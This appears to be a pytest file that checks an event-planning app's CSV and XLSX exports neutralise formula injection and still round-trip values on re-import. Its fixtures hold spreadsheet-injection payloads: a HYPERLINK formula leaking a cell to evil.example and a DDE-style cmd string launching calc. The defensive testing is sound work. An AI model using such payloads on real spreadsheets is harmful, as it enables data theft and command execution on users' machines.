"""Exports never hold a cell a spreadsheet would run as a formula (CSV injection), and an
escaped export still imports back to the same values."""

from __future__ import annotations

import csv
from collections.abc import Iterator
from pathlib import Path

import pytest
import sqlalchemy as sa
from hypothesis import given, settings
from hypothesis import strategies as st
from openpyxl import load_workbook
from sqlmodel import Session, select

from api.printing.sheets import write_plan_sheet
from api.workflows.plan_rows import MeetingRow, TableRow, write_csv
from models.db import make_engine, upgrade_database
from models.entities import Event, Organisation, Person
from models.exports import export_file
from models.imports import import_file
from models.spreadsheet import FORMULA_STARTS, escape_formula, read_sheet, unescape_formula, write_sheet
from tests.import_helpers import ERIK, MAIJA
from tests.import_helpers import write_csv as write_import_csv

EVIL_ROLE = '=HYPERLINK("http://evil.example/?"&A1,"Klikkaa")'
EVIL_ORG = "@SUM(1+1)*cmd|' /C calc'!A0"
EVIL_DESCRIPTION = "+358 40 123 4567"
EVIL_OFFER = "-2+3"


def _formula_like(value: object) -> bool:
    return isinstance(value, str) and value.startswith(FORMULA_STARTS)


@pytest.fixture
def engine(database_url: str, tmp_path: Path) -> Iterator[sa.Engine]:
    engine = make_engine(database_url)
    upgrade_database(engine)
    with Session(engine) as session:
        session.add(Event(name="Kanta-Häme"))
        session.commit()
    evil = list(MAIJA)
    evil[3], evil[5], evil[11], evil[12] = EVIL_ROLE, EVIL_ORG, EVIL_DESCRIPTION, EVIL_OFFER
    import_file(engine, write_import_csv(tmp_path / "in.csv", [evil, ERIK]), event_id=1)
    yield engine
    engine.dispose()


def test_stored_values_are_the_attackers_text(engine: sa.Engine) -> None:
    with Session(engine) as s:
        person = s.exec(select(Person).where(Person.role == EVIL_ROLE)).one()
        org = s.get(Organisation, person.organisation_id)
    assert org is not None
    assert (org.name, org.description, org.offers) == (EVIL_ORG, EVIL_DESCRIPTION, EVIL_OFFER)


@pytest.mark.parametrize("what", ["people", "organisations", "registrations"])
def test_csv_export_has_no_formula_cells(engine: sa.Engine, tmp_path: Path, what: str) -> None:
    with Session(engine) as s:
        path, _ = export_file(s, what, tmp_path / "x.csv")
    with path.open(encoding="utf-8-sig", newline="") as handle:
        cells = [cell for row in csv.reader(handle, delimiter=";") for cell in row]
    assert not [c for c in cells if _formula_like(c)]
    assert f"'{EVIL_ORG}" in cells


@pytest.mark.parametrize("what", ["people", "organisations", "registrations"])
def test_xlsx_export_has_no_formula_cells(engine: sa.Engine, tmp_path: Path, what: str) -> None:
    with Session(engine) as s:
        path, _ = export_file(s, what, tmp_path / "x.xlsx")
    workbook = load_workbook(path)  # not read-only: cell types are visible
    cells = [cell for row in workbook.worksheets[0].iter_rows() for cell in row]
    assert not [c.coordinate for c in cells if c.data_type == "f" or _formula_like(c.value)]
    assert f"'{EVIL_ORG}" in [c.value for c in cells]


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_escaped_export_imports_back_unchanged(engine: sa.Engine, tmp_path: Path, fmt: str) -> None:
    with Session(engine) as s:
        path, _ = export_file(s, "people", tmp_path / "people", fmt=fmt)
    sheet = read_sheet(path)
    role = sheet.headers.index("role")
    assert EVIL_ROLE in [row.values[role] for row in sheet.rows]
    result = import_file(engine, path, event_id=1)
    assert (result.people_unchanged, result.organisations_unchanged) == (2, 2)
    assert (result.people_updated, result.organisations_updated) == (0, 0)


def test_plan_csv_and_xlsx_have_no_formula_cells(tmp_path: Path) -> None:
    seats = [TableRow(1, 1, 7, "=1+1", EVIL_ORG, "private"), TableRow(1, 2, 8, "Maija", "Oy", "-")]
    meetings = [MeetingRow(1, 1, 7, "@x", "\tOy", "public", "+y")]
    csv_paths = [
        write_csv(seats, tmp_path / "t.csv", TableRow),
        write_csv(meetings, tmp_path / "m.csv", MeetingRow),
    ]
    for path in [*csv_paths, write_plan_sheet(seats, tmp_path / "p.csv")]:
        with path.open(encoding="utf-8-sig", newline="") as handle:
            cells = [cell for row in csv.reader(handle) for cell in row]
        assert not [c for c in cells if _formula_like(c)], path.name
        assert "'=1+1" in cells or "'@x" in cells
    workbook = load_workbook(write_plan_sheet(seats, tmp_path / "p.xlsx"))
    xcells = [cell for row in workbook.worksheets[0].iter_rows() for cell in row]
    assert not [c.coordinate for c in xcells if c.data_type == "f" or _formula_like(c.value)]
    assert [r.values[3:5] for r in read_sheet(tmp_path / "p.xlsx").rows] == [
        ["=1+1", EVIL_ORG],
        ["Maija", "Oy"],
    ]


@given(st.text(alphabet=st.sampled_from("'=+-@\t\rab1 "), max_size=8))
def test_unescape_undoes_escape(text: str) -> None:
    escaped = escape_formula(text)
    assert not escaped.startswith(FORMULA_STARTS)
    assert unescape_formula(escaped) == text


_cell_text = st.text(alphabet=st.sampled_from(list("'=+-@\t\r\n;,\"ab äÖ1")), min_size=1, max_size=10).filter(
    lambda t: t.strip() != ""
)


@settings(max_examples=60, deadline=None)
@given(
    rows=st.lists(st.lists(_cell_text, min_size=2, max_size=2), min_size=1, max_size=4),
    fmt=st.sampled_from(["csv", "xlsx"]),
)
def test_written_sheet_reads_back_the_same_text(
    rows: list[list[str]], fmt: str, tmp_path_factory: pytest.TempPathFactory
) -> None:
    path = write_sheet(tmp_path_factory.mktemp("w") / f"s.{fmt}", ["a", "b"], rows)
    if fmt == "xlsx":
        cells = [c for row in load_workbook(path).worksheets[0].iter_rows() for c in row]
        assert not [c for c in cells if c.data_type == "f"]
        rows = [[v.replace("\r\n", "\n").replace("\r", "\n") for v in row] for row in rows]  # XML: no CR
    assert [r.values for r in read_sheet(path).rows] == rows
